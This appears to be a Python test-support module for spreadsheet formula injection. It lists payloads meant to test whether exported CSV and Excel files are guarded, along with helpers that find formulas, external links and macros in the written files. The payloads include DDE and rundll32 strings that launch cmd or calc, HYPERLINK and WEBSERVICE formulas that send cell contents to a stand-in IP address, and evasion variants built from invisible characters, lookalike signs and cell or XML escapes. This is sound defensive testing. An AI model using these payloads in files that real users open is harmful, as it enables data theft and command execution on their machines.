"""Texts that try to be formulas, and readers that see a written file as a spreadsheet does."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl

FIRST = "=+-@\t\r\n\0＝＋－＠"
"""First characters by which a spreadsheet may take a text for a formula (OWASP)."""

ACTS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?"&A1,"额度")',
)
TRICKS = (
    # other functions that call, fetch or run
    'WEBSERVICE("http://192.0.2.1/"&A2)',
    '=WEBSERVICE("http://192.0.2.1/"&A2)',
    "=IMPORTXML(CONCAT(\"http://192.0.2.1/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "+1+cmd|'/C_calc'!A0",
    "=1+1\";=1+1;\"",
    "==1", "--1", "++1", "@@A1", "=-1", "={1;2}", "{=1+1}", "=$A$1", "='x'!A1", "=[1]x!A1",
    "-1-1", "-cmd", "+cmd", "-", "=", "-A1", "+A1:B2", "-0x1F", "-1e5x", "＝ＳＵＭ（１）",
    # the formula stands behind blanks, marks of order, or nothing that is seen
    " =1+1", "\u3000=1+1", "\xa0=1+1", "\u200b=1+1", "\u200e=1+1", "\u202e1+1=", "\u2066=1+1",
    "\ufeff=1+1", "\xad=1+1", "\x0b=1+1", "\x0c=1+1", "\x1f=1+1", "\x7f=1+1", "\u2028=1+1",
    # signs that look like these
    "﹦1", "﹢1", "﹣1", "﹫A1", "−1", "⁼1", "＝=1+1", "‐1", "–1", "—1",
    # ways out of a cell
    '"=1+1', '"",=1+1', 'x",=1+1,"y', "x,=1+1", "x;=1+1", "x\t=1+1", "x|=1+1", "x\n=1+1",
    "x\r=1+1", "x\r\n=1+1,\r\n", '"\r\n=1+1', "\n\n=1+1", "'=1+1", "''=1+1", "’=1+1",
    # ways out of the XML of a worksheet
    "</t></is></c><c><f>1+1</f></c>", "<f>1+1</f>", "]]><f>1+1</f>", "&#61;1+1", "&equals;1+1",
    "_x003D_1+1", "<?xml?>=1+1",
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys([*(first + act for first in FIRST for act in ACTS), *TRICKS]))

_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?\Z")
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s/>]")
_PARTS_THAT_CALL = re.compile(r"externalLinks|connections|macros|vbaProject|customUI|queryTables")


def cells_of(data):
    """Every cell of a CSV file, row by row."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def open_formulas(data):
    """Cells of a CSV file that begin like a formula and are no numbers."""
    return [
        cell
        for row in cells_of(data)
        for cell in row
        if cell and cell[0] in FIRST and not _NUMBER.match(cell)
    ]


def unguarded(cell):
    """Take the apostrophe away that was put before a text."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] and cell[1] in FIRST else cell


def column(data, name):
    """Cells of one column of a CSV file, as they were before they were guarded."""
    header, *rows = cells_of(data)
    place = header.index(name)
    return [unguarded(row[place]) for row in rows]


def live_parts(path):
    """What a workbook holds that could be worked out or fetched: formulas, links, programs."""
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        found = [name for name in names if _PARTS_THAT_CALL.search(name)]
        found += [f"<f> in {name}" for name in names if _FORMULA.search(archive.read(name))]
        found += [f"link in {n}" for n in names if b'TargetMode="External"' in archive.read(n)]
        found += [f"name in {n}" for n in names if b"<definedName " in archive.read(n)]
    kinds = {cell.data_type for cell in sheet_cells(path)}
    return found + sorted(kinds - {"s", "n", "inlineStr", "d"})


def sheet_cells(path):
    """Every cell of every sheet of a workbook that holds something."""
    book = openpyxl.load_workbook(path)
    cells = (cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    return [cell for cell in cells if cell.value is not None]


def sheet_texts(path):
    """Every text of a workbook, without an apostrophe that was put before it."""
    return {unguarded(c.value) for c in sheet_cells(path) if isinstance(c.value, str)}
